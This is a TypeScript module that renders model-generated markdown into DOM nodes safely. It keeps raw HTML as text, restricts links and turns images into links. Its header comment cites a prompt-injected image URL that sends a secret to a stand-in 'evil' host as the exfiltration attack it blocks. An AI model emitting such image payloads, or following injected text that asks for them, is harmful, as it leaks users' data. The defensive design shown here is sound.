/**
 * Markdown to DOM nodes for model output, safe by construction: the markdown-it token stream is
 * turned into elements from a fixed list, with text only ever set as text, so nothing a model
 * or a page writes is parsed as HTML. Raw HTML in the text stays text (`html: false`), links work
 * only for http(s) and mailto, open in a new tab without an opener and show their host (see
 * ./links.ts), and images are never loaded: they become links, so a prompt-injected
 * `![](https://evil/?q=secret)` cannot send anything anywhere.
 *
 * Formulas are typeset with KaTeX and code blocks highlighted, both loaded only when an answer
 * has one (./math.ts, ./code-highlight.ts).
 */
import MarkdownIt, { type Token } from 'markdown-it';
import { markdownText } from '../i18n/messages/markdown';
import { highlightCode } from './code-highlight';
import { linkTargetOf } from './links';
import { mathElement } from './math';
import { type Formula, mathSyntax } from './math-syntax';

const SAFE_LINK = /^(https?:|mailto:)/i;

/** The elements markdown-it's rules open and close; anything else would become a span. */
const ELEMENTS = new Set([
  'p',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'blockquote',
  'ul',
  'ol',
  'li',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
  'em',
  'strong',
  's',
]);

let parser: ReturnType<typeof createParser> | undefined;

function createParser() {
  const md = new MarkdownIt({ html: false, linkify: true, typographer: false });
  md.validateLink = (url: string) => SAFE_LINK.test(url.trim());
  md.use(mathSyntax);
  return md;
}

function markdownParser() {
  parser ??= createParser();
  return parser;
}

/** The language a fence's info string names: its first word. */
const languageOf = (info: string): string => info.trim().split(/\s+/)[0] ?? '';

/** A code block's frame: its language, a Copy button, and the `<pre>` the code goes in. */
export function codeBlockFrame(
  doc: Document,
  info: string,
): { block: HTMLElement; pre: HTMLElement } {
  const block = doc.createElement('div');
  block.className = 'code-block';
  const head = doc.createElement('div');
  head.className = 'code-head';
  const language = doc.createElement('span');
  language.textContent = languageOf(info) || markdownText('code');
  const copy = doc.createElement('button');
  copy.type = 'button';
  copy.className = 'code-copy';
  copy.textContent = markdownText('copyCode');
  head.append(language, copy);
  const pre = doc.createElement('pre');
  block.append(head, pre);
  return { block, pre };
}

function codeBlock(doc: Document, info: string, code: string): HTMLElement {
  const { block, pre } = codeBlockFrame(doc, info);
  const element = doc.createElement('code');
  element.textContent = code;
  highlightCode(element, languageOf(info), code);
  pre.append(element);
  return block;
}

/** The note after a link: its host, or a mail address. */
function note(doc: Document, className: string, text: string): HTMLElement {
  const element = doc.createElement('span');
  element.className = className;
  element.textContent = text;
  return element;
}

/** An opened link: an `<a>` that shows where it goes, or a span for a link that must not work. */
function openLink(
  doc: Document,
  href: string,
  extraClass = '',
): { element: HTMLElement; after: HTMLElement | null } {
  const target = linkTargetOf(href);
  if (!target || target.kind === 'mail-with-text') {
    const element = doc.createElement('span');
    element.className = `md-link-disabled ${extraClass}`.trim();
    const shown = target ? markdownText('notALink', { shown: target.shown }) : '';
    return { element, after: shown ? note(doc, 'md-link-address', shown) : null };
  }
  const link = doc.createElement('a');
  link.href = target.href;
  link.target = '_blank';
  link.rel = 'noopener noreferrer';
  link.className = `md-link ${extraClass}`.trim();
  if (target.kind === 'web') {
    link.dataset.host = target.host;
    return { element: link, after: note(doc, 'md-link-host', ` (${target.host})`) };
  }
  return {
    element: link,
    after: note(doc, 'md-link-host', markdownText('mailTo', { address: target.address })),
  };
}

const ALIGN = /text-align:(left|right|center)/;

function element(doc: Document, token: Token): HTMLElement {
  const tag = ELEMENTS.has(token.tag) ? token.tag : 'span';
  const created = doc.createElement(tag);
  const start = token.attrGet('start');
  if (tag === 'ol' && start)
    created.setAttribute('start', String(Number.parseInt(String(start), 10) || 1));
  // markdown-it aligns table cells with a style attribute; a class works under the CSP.
  const align = ALIGN.exec(String(token.attrGet('style') ?? ''))?.[1];
  if (align) created.className = `md-align-${align}`;
  return created;
}

/** Appends the nodes for `tokens` (one level of markdown-it's stream) to `root`. */
function build(doc: Document, tokens: Token[], root: Node): void {
  const stack: Node[] = [root];
  /** What to add after each open link once it closes: its host. */
  const afterLinks: Array<HTMLElement | null> = [];
  const top = () => stack[stack.length - 1] as Node;
  for (const token of tokens) {
    if (token.hidden && (token.type === 'paragraph_open' || token.type === 'paragraph_close')) {
      continue; // a tight list's paragraphs are not drawn
    }
    switch (token.type) {
      case 'inline':
        build(doc, token.children ?? [], top());
        continue;
      case 'text':
      case 'text_special':
        top().appendChild(doc.createTextNode(token.content));
        continue;
      case 'softbreak':
        top().appendChild(doc.createTextNode('\n'));
        continue;
      case 'hardbreak':
        top().appendChild(doc.createElement('br'));
        continue;
      case 'hr':
        top().appendChild(doc.createElement('hr'));
        continue;
      case 'code_inline': {
        const code = doc.createElement('code');
        code.textContent = token.content;
        top().appendChild(code);
        continue;
      }
      case 'code_block':
        top().appendChild(codeBlock(doc, '', token.content));
        continue;
      case 'fence':
        top().appendChild(codeBlock(doc, token.info, token.content));
        continue;
      case 'math_inline':
      case 'math_block':
        top().appendChild(mathElement(doc, token.meta as Formula, token.type === 'math_block'));
        continue;
      case 'image': {
        const { element: link, after } = openLink(
          doc,
          String(token.attrGet('src') ?? ''),
          'md-image-link',
        );
        link.textContent = markdownText('image', {
          description: token.content || markdownText('imageWithoutText'),
        });
        top().appendChild(link);
        if (after) top().appendChild(after);
        continue;
      }
      case 'link_open': {
        const { element: link, after } = openLink(doc, String(token.attrGet('href') ?? ''));
        top().appendChild(link);
        stack.push(link);
        afterLinks.push(after);
        continue;
      }
      case 'link_close': {
        stack.pop();
        const after = afterLinks.pop();
        if (after) top().appendChild(after);
        continue;
      }
    }
    if (token.nesting === 1) {
      const created = element(doc, token);
      top().appendChild(created);
      stack.push(created);
    } else if (token.nesting === -1 && stack.length > 1) {
      stack.pop();
    }
    // Anything else (html_block, html_inline: never made with `html: false`) shows nothing.
  }
}

/** `text` as nodes owned by `doc`, ready to be appended. */
export function renderMarkdown(text: string, doc: Document = document): DocumentFragment {
  const fragment = doc.createDocumentFragment();
  build(doc, markdownParser().parse(text, {}), fragment);
  return fragment;
}
